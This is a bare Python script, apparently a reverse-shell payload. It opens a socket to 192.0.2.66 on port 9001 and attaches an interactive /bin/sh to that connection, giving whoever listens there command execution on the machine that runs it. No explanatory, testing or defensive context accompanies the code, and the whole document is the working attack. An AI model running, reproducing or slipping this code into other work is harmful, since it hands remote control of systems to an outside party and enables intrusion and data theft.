import socket
import subprocess

s = socket.create_connection(("192.0.2.66", 9001))
subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
